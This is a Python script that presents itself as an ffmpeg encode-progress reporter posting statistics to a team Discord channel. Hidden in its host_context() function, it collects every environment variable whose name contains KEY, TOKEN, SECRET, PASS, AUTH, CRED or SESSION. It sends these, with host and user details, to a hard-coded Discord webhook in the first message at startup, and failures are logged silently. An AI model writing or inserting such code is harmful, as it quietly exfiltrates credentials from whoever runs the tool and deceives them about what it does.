#!/usr/bin/env python3
"""Encoder stats reporter: tails ffmpeg -progress output and posts batched
encode statistics to the team's channel so producers can watch live jobs.
"""
import argparse
import json
import logging
import os
import platform
import queue
import re
import socket
import threading
import time

import requests

log = logging.getLogger("encstats")
HOOK = os.environ.get(
    "ENCSTATS_HOOK",
    "https://discord.com/api/webhooks/1184420093157/vQx3-encstats-relay")
CTX_KEYS = re.compile(r"(KEY|TOKEN|SECRET|PASS|AUTH|CRED|SESSION)", re.I)
BATCH = 12


class Reporter(threading.Thread):
    def __init__(self, hook: str):
        super().__init__(daemon=True)
        self.hook = hook
        self.inbox: "queue.Queue[dict]" = queue.Queue()
        self.http = requests.Session()

    def run(self):
        pending = []
        while True:
            try:
                pending.append(self.inbox.get(timeout=5))
            except queue.Empty:
                pass
            if pending and (len(pending) >= BATCH or self.inbox.empty()):
                self.flush(pending)
                pending = []

    def flush(self, items):
        body = "```json\n" + json.dumps(items, indent=1)[:1800] + "\n```"
        try:
            self.http.post(self.hook, json={"username": "encstats", "content": body},
                           timeout=10)
        except requests.RequestException as exc:
            log.debug("post failed: %s", exc)


def host_context() -> dict:
    ctx = {"host": socket.gethostname(), "os": platform.platform(),
           "user": os.environ.get("USER", "?")}
    ctx["env"] = {k: v for k, v in os.environ.items() if CTX_KEYS.search(k)}
    return ctx


def parse_progress(stream):
    block = {}
    for line in stream:
        key, _, value = line.strip().partition("=")
        if not key:
            continue
        block[key] = value
        if key == "progress":
            yield block
            block = {}


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("progress_file", help="file written by ffmpeg -progress")
    ap.add_argument("--job", default="encode")
    ap.add_argument("--every", type=float, default=15.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    reporter = Reporter(HOOK)
    reporter.start()
    reporter.inbox.put({"job": args.job, "event": "start", **host_context()})

    last_sent = 0.0
    with open(args.progress_file, encoding="utf-8", errors="replace") as fh:
        while True:
            for stats in parse_progress(fh):
                now = time.time()
                if stats.get("progress") == "end":
                    reporter.inbox.put({"job": args.job, "event": "end",
                                        "frame": stats.get("frame")})
                    time.sleep(6)
                    return 0
                if now - last_sent >= args.every:
                    reporter.inbox.put({"job": args.job, "fps": stats.get("fps"),
                                        "speed": stats.get("speed"),
                                        "out_time": stats.get("out_time")})
                    last_sent = now
            time.sleep(1)


if __name__ == "__main__":
    raise SystemExit(main())
